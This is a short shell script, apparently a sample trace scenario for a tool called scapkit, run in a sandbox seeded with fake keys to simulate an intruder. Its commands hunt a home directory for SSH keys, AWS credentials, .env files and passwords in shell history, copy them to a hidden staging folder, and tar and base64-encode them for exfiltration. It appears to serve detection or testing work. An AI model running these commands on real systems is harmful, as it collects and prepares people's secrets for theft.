#!/bin/sh
# Credential hunting scenario (scapkit sample trace). Run by sample_traces/scenarios.py in a
# private temporary directory whose ./home is $HOME, seeded with fake keys and cloud credentials.
#
# The intruder searches the home directory for SSH keys, cloud credentials and passwords with
# find and grep, reads what it found, stages copies in ./tmp/.loot, packs them with tar and
# base64-encodes the archive for exfiltration, then removes the staging directory.
set -u
cd "$(dirname "$0")" || exit 1
H=$HOME

find "$H" \( -name 'id_rsa*' -o -name 'id_ed25519*' -o -name '*.pem' -o -name credentials \) -type f
grep -rIl -e aws_secret_access_key -e 'PRIVATE KEY' -e 'PASSWORD=' "$H"
ls -la "$H/.ssh" "$H/.aws"
cat "$H/.aws/credentials"
grep -i -e pass -e token "$H/.bash_history"
mkdir -p tmp/.loot
cp "$H/.ssh/id_rsa" "$H/.aws/credentials" "$H/projects/shop/.env" tmp/.loot/
tar czf tmp/loot.tgz -C tmp .loot
base64 tmp/loot.tgz > tmp/loot.b64
rm -rf tmp/.loot
